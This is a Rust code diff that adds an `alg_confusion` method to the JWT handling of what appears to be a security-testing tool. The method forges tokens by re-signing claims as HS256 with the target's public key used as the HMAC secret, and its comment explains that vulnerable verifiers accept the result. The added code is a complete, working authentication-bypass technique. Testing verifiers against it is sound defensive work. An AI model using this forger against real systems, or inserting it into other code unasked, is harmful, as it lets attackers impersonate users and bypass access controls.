@@ -90,6 +90,20 @@ impl<'a> Jwt<'a> {
         jsonwebtoken::encode(&header, &expired_claims(&self.claims)?, &key.key).ok()
     }
 
+    /// The same claims as HS256, with the target's *public* key (its PEM text) as the
+    /// HMAC secret: a verifier that takes the algorithm from the token and the key from
+    /// its configuration accepts it (algorithm confusion).
+    pub fn alg_confusion(&self, public_pem: &[u8]) -> Option<String> {
+        let mut header = jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256);
+        header.kid = self.header["kid"].as_str().map(str::to_string);
+        jsonwebtoken::encode(
+            &header,
+            &self.claims,
+            &jsonwebtoken::EncodingKey::from_secret(public_pem),
+        )
+        .ok()
+    }
+
     /// `exp - iat` in seconds, when both are numbers.
     pub fn lifetime(&self) -> Option<i64> {
         let n = |k: &str| self.claims[k].as_f64();
